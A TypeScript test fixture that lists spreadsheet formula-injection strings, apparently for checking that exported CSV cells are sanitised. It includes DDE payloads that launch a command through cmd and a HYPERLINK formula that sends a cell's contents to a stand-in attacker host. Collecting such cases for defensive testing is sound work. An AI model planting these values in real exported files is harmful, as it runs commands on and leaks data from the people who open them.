/** Cells that would run as formulas in a spreadsheet: from the attack review (issue 13 point 9) and OWASP's list. */
export const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  '-5',
  '+ 971 50 123 4567',
  '+971-50-123-4567',
];
